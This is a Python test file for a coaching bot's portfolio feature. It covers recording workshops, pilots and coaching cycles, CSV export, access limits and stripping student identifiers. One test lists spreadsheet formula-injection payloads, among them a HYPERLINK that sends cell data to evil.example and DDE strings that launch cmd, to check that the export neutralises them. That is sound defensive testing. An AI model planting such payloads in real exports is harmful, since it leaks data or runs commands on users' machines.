"""A coach's record: workshops and PD sessions they add, with their pilots, coaching cycles
and checklists from the other features, as a summary and as CSV; only their own."""

from __future__ import annotations

import asyncio
import csv
import io

from sqlalchemy import func, select

from adapters.console import ConsoleChat, render
from adapters.runtime import Runtime
from bot.features.portfolio.models import WorkshopRow
from bot.vocabulary import Person
from tests.bot.features.conftest import Staff, form_of


async def test_the_record_gathers_workshops_pilots_cycles_and_checklists(
        chat: ConsoleChat, staff: Staff) -> None:
    coach = staff.coach
    [added] = await chat.say("/portfolio workshop Nearpod basics on 2026-11-12, 14 attendees, "
                             "1.5 hours", as_=coach)
    assert added.text == ("Workshop added to your record: “Nearpod basics”, November 12, 2026, "
                          "14 attendees, 1.5 hours.")
    [shown] = await chat.say("/portfolio workshop", as_=coach)
    await chat.submit("portfolio.workshop", {"title": "Digital citizenship PD", "kind": "pd",
                                             "held_on": "2026-10-02", "attendees": "30",
                                             "hours": "3"}, form_of([shown]).context, as_=coach)
    await chat.say("/tools add Blooket", as_=coach)
    await chat.say("/tools check Blooket privacy pass https://vendor.example/dpa", as_=coach)
    await chat.say("/pilot start Blooket with @Ms Rivera @Mr Chen @Dr Diaz for 4 weeks",
                   as_=coach)
    await chat.say("/cycle start @Ms Rivera", as_=coach)

    [record] = await chat.say("/portfolio", as_=coach)
    summary = render(record)
    assert ("Mr Okafor, Aug 1, 2026 to Jul 31, 2027: 1 PD session, 1 checklist, 1 coaching "
            "cycle, 1 pilot, 1 workshop; 4.5 hours; 44 attendees at workshops and PD") in summary
    assert "• Nov 30, pilot: Blooket pilot, 4 weeks (3 people), running" in summary
    [as_csv] = await chat.say("/portfolio csv", as_=coach)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["kind"] for r in rows] == ["PD session", "workshop", "checklist", "pilot",
                                         "coaching cycle"]
    assert rows[4]["title"].startswith("Coaching cycle") and "Rivera" not in as_csv.text
    assert rows[2]["outcome"] == "1 pass, 5 unknown (sso, accessibility, cost, evidence, mobile)"


async def test_a_workshop_card_sent_twice_adds_one_workshop(
        chat: ConsoleChat, staff: Staff, runtime: Runtime) -> None:
    # A red team's (stop 49): a double click on the Teams card added the workshop twice.
    values = {"title": "Nearpod basics", "kind": "workshop", "held_on": "2026-11-12",
              "attendees": "14", "hours": "1.5"}
    card = form_of(await chat.say("/portfolio workshop", as_=staff.coach)).context
    told = [*await chat.submit("portfolio.workshop", values, card, as_=staff.coach),
            *(reply for replies in await asyncio.gather(*(
                chat.submit("portfolio.workshop", values, card, as_=staff.coach)
                for _ in range(2))) for reply in replies)]
    assert all(r.text.startswith("Workshop added") and r.replace_original for r in told)
    another = form_of(await chat.say("/portfolio workshop", as_=staff.coach)).context
    await chat.submit("portfolio.workshop", values, another, as_=staff.coach)
    async with runtime.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(WorkshopRow)) == 2


async def test_another_coachs_record_and_bad_input(chat: ConsoleChat, staff: Staff) -> None:
    await chat.say("/portfolio workshop Nearpod basics on 2026-11-12", as_=staff.coach)
    other = Person(platform="console", user_id="other-coach", display_name="Ms Lee")
    await chat.say("/prepbot role console:other-coach coach", as_=staff.admin)
    [theirs] = await chat.say("/portfolio", as_=other)
    assert "nothing recorded yet" in render(theirs)
    [bad] = await chat.say("/portfolio workshop on 2026-11-12", as_=staff.coach)
    assert bad.text.startswith("What was it called?")
    [hours] = await chat.say("/portfolio workshop Long day 80 hours", as_=staff.coach)
    assert "at most 40" in hours.text
    [range_] = await chat.say("/portfolio 2027-01-01..2026-01-01", as_=staff.coach)
    assert "earlier date to a later one" in range_.text
    [teacher] = await chat.say("/portfolio", as_=staff.rivera)
    assert "only for coaches" in teacher.text


async def test_the_csv_runs_no_formula_a_title_starts_with(chat: ConsoleChat,
                                                           staff: Staff) -> None:
    """A title is typed (a workshop's, or a tool's name on a pilot): opened in a spreadsheet,
    it is shown as typed after a leading quote, never run; numbers stay numbers."""
    typed = ['=HYPERLINK("http://evil.example/?d="&A3,"click")', "+1+2",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Nearpod basics"]
    for day, title in enumerate(typed, start=10):
        await chat.submit("portfolio.workshop", {"title": title, "kind": "workshop",
                                                 "held_on": f"2026-11-{day}",
                                                 "attendees": "14", "hours": "1.5"},
                          "", as_=staff.coach)
    [as_csv] = await chat.say("/portfolio csv", as_=staff.coach)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["title"] for r in rows] == [*("'" + t for t in typed[:4]), "Nearpod basics"]
    assert (rows[-1]["date"], rows[-1]["people"], rows[-1]["hours"]) == ("2026-11-14", "14",
                                                                         "1.5")


async def test_a_workshop_title_keeps_no_student_in_the_record_or_its_csv(
        chat: ConsoleChat, staff: Staff) -> None:
    # A red team's (stop 47): the title was stored and exported as typed.
    await chat.say("/portfolio workshop Seesaw for Jaden Wilks (student ID 4412345) on "
                   "2026-11-12, 3 attendees, 1 hours", as_=staff.coach)
    await chat.say("/portfolio workshop Nearpod basics on 2026-11-13, 14 attendees, 2 hours",
                   as_=staff.coach)
    [as_csv] = await chat.say("/portfolio csv", as_=staff.coach)
    titles = [r["title"] for r in csv.DictReader(io.StringIO(as_csv.text))]
    assert not any("4412345" in t or "Wilks" in t for t in titles)
    assert "Nearpod basics" in titles
